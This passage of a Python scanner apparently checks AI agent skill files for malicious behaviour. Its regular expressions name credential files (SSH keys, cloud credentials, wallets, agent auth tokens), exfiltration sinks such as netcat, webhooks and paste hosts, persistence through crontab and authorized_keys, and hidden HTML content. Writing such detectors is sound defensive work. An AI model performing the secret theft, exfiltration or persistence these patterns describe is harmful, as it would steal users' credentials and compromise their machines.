    r"|transfer\.sh|file\.io|anonfiles\.com|gofile\.io|temp\.sh|catbox\.moe)$")
ARCHIVE_OR_BINARY = _rx(
    r"\.(?:zip|rar|7z|exe|msi|dmg|pkg|scr|bat|cmd|appimage|jar|vbs)\b|\b(?:executable|binary|installer)\b")
ARCHIVE_PASSWORD = _rx(
    r"\b(?:password|passphrase|passcode|pass|pwd|archive key)[*_]{0,3}\s{0,3}(?:is\s{1,3}|[:=]\s{0,3})[`\"'*]{0,3}[\w!@#$%^&*.-]{1,40}"
    r"|\bpassword[- ]protected\b|\bencrypted (?:zip|archive|rar|7z)\b|\b(?:with|using) (?:the )?password\s{0,3}[`\"'*]")
PREREQUISITE = _rx(
    r"\b(?:prerequisites?|requirements?|required|requires|before (?:using|you use|running|you run|you start)"
    r"|must (?:first )?(?:download|install|run)|first,? (?:download|install|run)|make sure (?:to|you) (?:download|install|run))\b")
DOWNLOAD_WORD = _rx(r"\bdownload")
# A stolen value sent to a service the description names (a Telegram bot's own token) is its job.
SINK_SERVICE = _rx(r"\b(?:telegram|slack|discord)\b")
RUN_WORD = _rx(r"\b(?:run|launch|execute|open|start|double[- ]click|install|paste|terminal)\b")

PERSISTENCE = LineRule("persistence", Severity.MEDIUM, _rx(
    r"\bauthorized_keys\b|\bcrontab\s{1,4}-(?:e|\s)|\|\s{0,4}crontab\b|>>\s{0,4}~/\.(?:bashrc|zshrc|profile"
    r"|bash_profile)\b|\blaunchagents\b|\bsystemctl\s{1,4}enable\b|\\currentversion\\run\b"
    r"|\bschtasks\s{1,4}/create\b"), softens=True)

# Where secrets live. Strong: reading them is never a skill's side business. Soft: a
# .env file or a token variable, common in honest tooling; they count only when sent.
STRONG_SECRET = _rx(
    r"~/\.ssh\b(?!/[\w.-]{0,40}\.pub\b)(?!/known_hosts\b)(?!/config\b)(?!/authorized_keys\b)|\bid_(?:rsa|ed25519|ecdsa|dsa)\b(?!\.pub)"
    r"|\.aws/credentials\b|\.config/gh/hosts|\.npmrc\b|\.pypirc\b|\.netrc\b|\.docker/config\.json"
    r"|\.kube/config\b|\.gnupg\b|\bwallet\.(?:dat|key)\b|\bidentity\.key\b|\bkeystore\b"
    r"|\b(?:seed|recovery|mnemonic)\s{1,3}(?:phrase|words)\b|\bprivate[ _]key\b|\blogin data\b"
    r"|/cookies\b|\bkeychain\b|\.git-credentials\b|\b(?:metamask|phantom)\b"
    r"|\.(?:clawdbot|openclaw|moltbot)/[\w./-]{0,40}(?:\.env|credentials|auth\w{0,10}|tokens?)\b|\.claude/\.credentials\.json"
    r"|\.codex/auth\.json|application_default_credentials\.json|\.vault-token\b|\.password-store\b"
    r"|\.terraform\.d/credentials|\.config/gcloud/credentials")
# The strong secrets a skill names by *path*: reading one is reading someone's key file.
# The words ("private key", "seed phrase", "keychain", "phantom") are not evidence of a read.
SECRET_WORD = _rx(r"^(?:\b(?:seed|recovery|mnemonic)\s{1,3}(?:phrase|words)|private[ _]key|login data|keychain|keystore"
                  r"|metamask|phantom)$")
OWN_STORE = _rx(r"\.(?:clawdbot|openclaw|moltbot|config)/")
PATH_TOKEN_END = _rx(r"[\s\"'`()<>,;]")
SOFT_SECRET = _rx(
    r"(?<![\w.])\.env\b(?!\.(?:example|sample|template|dist))|\$\{?[a-z_]{0,30}(?:token|secret|api_?key"
    r"|password|passwd|private_key|access_key)\b|\benv\s{0,4}\||\bprintenv\b|\bcookies?\b"
    r"|\bpbpaste\b|\bxclip\b[^|\n]{0,40}\s-o\b|\bxsel\b|\bget-clipboard\b|\bwl-paste\b|\.(?:bash|zsh|python)_history\b"
    r"|/proc/(?:self|\d{1,7}|\*|\$\$)/environ\b")  # a process's whole environment, read from /proc
# The soft secrets that are a whole file or the whole environment, not one token.
BULK_SECRET = _rx(r"(?<![\w.])\.env\b(?!\.(?:example|sample|template|dist))|\benv\s{0,4}\||\bprintenv\b"
                  r"|\bpbpaste\b|\bxclip\b[^|\n]{0,40}\s-o\b|\bxsel\b|\bget-clipboard\b|\bwl-paste\b"
                  r"|\.(?:bash|zsh|python)_history\b|/proc/(?:self|\d{1,7}|\*|\$\$)/environ\b")  # the clipboard,
# shell history and a process's environment: passwords typed or copied, every token at once
# A token variable used as the credential of the request it is on: an auth header, ``-u user:$TOKEN``,
# or a ``key=$TOKEN`` query parameter. That is what an API skill does with its own key.
AUTH_USE = _rx(
    r"(?:authorization|x-api-key|api-key|apikey|x-auth-token|private-token|x-access-token|bearer)"
    r"\s{0,3}[:=]\s{0,3}[^\n]{0,40}\$\{?[a-z_]{0,30}(?:token|secret|api_?key|password|passwd|private_key|access_key)"
    r"|\s-u\s{1,4}[\"']?[^\s\"']{0,60}:\$\{?[a-z_]{0,30}(?:token|secret|api_?key|password|passwd)"
    r"|[?&][a-z_]{1,30}=\$\{?[a-z_]{0,30}(?:token|secret|api_?key|password|passwd|access_key)"
    r"|api\.telegram\.org/bot\$\{?[a-z_]{0,30}token")
ACCESS_VERB = _rx(
    r"\b(?:cat|less|more|head|tail|cp|scp|rsync|tar|zip|base64|xxd|read|open|include|paste|copy|print"
    r"|dump|upload|send|exfiltrate|grep|find|sed|awk|type|get-content|gc)\b|<\s{0,2}~")
UPLOAD_SINK = _rx(
    r"\bcurl\b[^\n]{0,200}(?:\s-(?:f|t|d|x\s{0,2}post)\b|--data|--upload-file|--form|-F\s)"
    r"|\bwget\b[^\n]{0,200}--post-(?:data|file)|\brequests\.(?:post|put)\s{0,3}\(|\bfetch\s{0,3}\([^\n]{0,200}post"
    r"|\b(?:nc|ncat|netcat|socat)\s{1,4}[a-z0-9.-]{1,60}\s{1,4}\d{2,5}\b|discord(?:app)?\.com/api/webhooks"
    r"|\bwebhook\.site\b|\bpastebin\.com\b|\bngrok\.io\b|\btransfer\.sh\b|\binvoke-restmethod\b[^\n]{0,200}"
    r"-method\s{1,3}post|\bscp\s[^\n]{0,200}@|/api/webhooks/|\bhooks\.slack\.com/services\b")
DOWNLOAD = _rx(_FETCH + r"[^\n]{0,300}(?:-o\b|-O\b|--output\b|>\s{0,3}[\w./~-]{1,100}|\s-L?O\b)")
CHMOD_EXEC = _rx(r"\bchmod\s{1,4}(?:[ugoa]{0,3}\+x|[0-7]{0,2}[157][0-7]{0,2})\b")
CHECKSUM = _rx(r"\b(?:sha(?:256|512|1)sum|shasum|gpg\s{1,4}--verify|cosign\s{1,4}verify|minisign|"
               r"get-filehash|certutil\s{1,4}-hashfile)\b")

# A word inside an address (``https://attacker.example.com/x``) is a name, not a warning.
URL_TEXT = _rx(r"\bhttps?://[^\s\"'`<>)\]]{1,300}")
CAUTION = _rx(
    r"\b(?:never|avoid|must ?not|mustn'?t|should ?not|shouldn'?t|do ?not|don'?t|instead of|rather than"
    r"|blindly|reject|flag|detect|look (?:for|out)|watch for|beware|dangerous|malicious|attacker|phrasings?"
    r"|test cases?|red[- ]team|refuses?|warning|theft|catches)\b")
NOT_CAUTION = _rx(r"\b(?:never|do ?not|don'?t)\s{1,3}(?:forget|skip|mind|hesitate|omit|miss|stops?|asks?|prompts?"
                  r"|interrupts?|waits?)\b")
HIDDEN_STYLE = _rx(
    r"<[a-z]{1,10}\b[^>\n]{0,200}(?:display\s{0,3}:\s{0,3}none|visibility\s{0,3}:\s{0,3}hidden"
    r"|font-size\s{0,3}:\s{0,3}0(?:px)?\b|\bhidden\b|opacity\s{0,3}:\s{0,3}0\b)[^>\n]{0,200}>"
    r"(?P<content>[^<\n]{0,1000})")
LINK_COMMENT = _rx(r"^\s{0,3}\[(?://|comment|_)\]:\s{0,4}#\s{0,4}[(\"'](?P<content>[^\n]{0,1000})")
DECLARES = {
    "credentials": _rx(r"\b(?:ssh|keys?|credentials?|secrets?|tokens?|wallets?|auth\w{0,12}|security"
                       r"|gpg|passwords?|signing|signer|vault|login|cookies?|backups?)\b"
                       r"|\b[a-z0-9]{1,30}_(?:api_?)?(?:key|token|secret)\b"),
    "persistence": _rx(r"\b(?:schedul\w{0,6}|cron\w{0,4}|nightly|daily|hourly|startup|boot|service|timers?"
                       r"|ssh|access|login|keys?|dotfiles|shell)\b"),
}

# A tool's own configuration file, which holds its registry token: reading it is the tool's business
# in a skill whose description names the tool (``.npmrc`` copied into an npm sandbox).
TOOL_CONFIGS = (
    (_rx(r"\.npmrc\b"), _rx(r"\b(?:npm|node_modules|node\.?js|yarn|pnpm)\b")),
    (_rx(r"\.pypirc\b"), _rx(r"\b(?:pypi|pip|twine|python packag\w{0,4})\b")),
    (_rx(r"\.docker/config\.json"), _rx(r"\b(?:docker|containers?|registry|registries)\b")),
    (_rx(r"\.kube/config\b"), _rx(r"\b(?:kubernetes|kubectl|k8s|clusters?)\b")),
)


def tool_config_declared(text: str, description: str | None) -> bool:
    """True if the strong secrets on ``text`` are only tool configuration files whose tool the description
    names: a key file, a wallet or another tool's file on the same line still counts."""
    if description is None:
        return False
    rest = text
    for path, tool in TOOL_CONFIGS:
        if path.search(rest):
            if not tool.search(description):
                return False
            rest = path.sub(" ", rest)
    return rest != text and STRONG_SECRET.search(rest) is None


LINE_RULES: tuple[LineRule, ...] = (*INJECTION, *DOWNLOAD_EXEC, *DECODE_EXEC, PERSISTENCE, *DESTRUCTIVE,
                                     *PERMISSIONS, *SHADOWING, REVERSE_SHELL, CRYPTOMINER,
                                     DYNAMIC_DISPATCH, CODE_IN_DATA, DNS_EXFILTRATION, KEY_GLOB_UPLOAD, WALLET_DRAIN,
                                     DEFENSE_EVASION, PERSONAL_FILES_UPLOAD, CLOUD_CREDENTIALS, FIXED_SSH_KEY)
ALL_PATTERNS: tuple[re.Pattern[str], ...] = (
    *(rule.pattern for rule in LINE_RULES), STRONG_SECRET, SECRET_WORD, OWN_STORE, PATH_TOKEN_END, SOFT_SECRET, BULK_SECRET, AUTH_USE, ACCESS_VERB, UPLOAD_SINK,
    DOWNLOAD, CHMOD_EXEC, CHECKSUM, CAUTION, NOT_CAUTION, HIDDEN_STYLE, LINK_COMMENT, *DECLARES.values(),
    CODE_SECRET, ENV_DUMP, CODE_READ, EXFIL_SINK, SEND, URL, RAW_IP_HOST, PASTE_HOST, ARCHIVE_OR_BINARY,
    ARCHIVE_PASSWORD, PREREQUISITE, RUN_WORD, SKIP_PERMISSIONS, NO_ASKING, SANDBOX_WORDS, TOOL_REGISTRATION, MCP_WORDS,
    DISK_WRITE, DISK_WORDS, DOWNLOAD_WORD, URL_TEXT, SINK_SERVICE, TUNNEL_RUN, TUNNEL_HOST, REGEX_SYNTAX, REGEX_LINE,
    *(pattern for pair in TOOL_CONFIGS for pattern in pair),
)




def own_path(path: str, name: str | None) -> bool:
    """True if a credential path is the skill's own store: under an agent's or the user's config
    folder (``~/.clawdbot/``, ``~/.config/``…) with a part of the skill's name (4+ letters) in it
    (``~/.clawdbot/gotify/config.json`` for the skill ``gotify``)."""
    if not name or OWN_STORE.search(path) is None:
        return False
    parts = [part for part in re.split(r"[^a-z0-9]{1,10}", name.lower()) if len(part) >= 4]
    lowered = path.lower()
    return any(part in lowered for part in parts)


def foreign_key_file(secret: re.Match[str], line: str, name: str | None) -> bool:
    """True if ``secret`` (a STRONG_SECRET match on ``line``) names a key file that is not the
    skill's own: a path (not a word such as "private key"), judged on its own token of the line."""
    if SECRET_WORD.search(secret.group().strip()) is not None:
        return False
    start, end = secret.start(), secret.end()
    while start > 0 and not PATH_TOKEN_END.match(line[start - 1]) and secret.end() - start < 300:
        start -= 1
    while end < len(line) and not PATH_TOKEN_END.match(line[end]) and end - secret.start() < 300:
        end += 1
    return not own_path(line[start:end], name)


def cautionary(line: str) -> bool:
    if "://" in line:
        line = URL_TEXT.sub(" ", line)
    return CAUTION.search(line) is not None and NOT_CAUTION.search(line) is None


def quoted(line: str, start: int, end: int) -> bool:
    """True if ``line[start:end]`` sits inside a "...", `...` or \u201c...\u201d quotation."""
    for opening, closing in (('"', '"'), ("`", "`"), ("\u201c", "\u201d")):
        if opening == closing:
            if line.count(opening, 0, start) % 2 == 1 and opening in line[end:]:
                return True
        elif line.rfind(opening, 0, start) > line.rfind(closing, 0, start) and closing in line[end:]:
            return True
    return False


def soften(severity: Severity) -> Severity:
    return Severity.MEDIUM if severity == Severity.HIGH else Severity.LOW
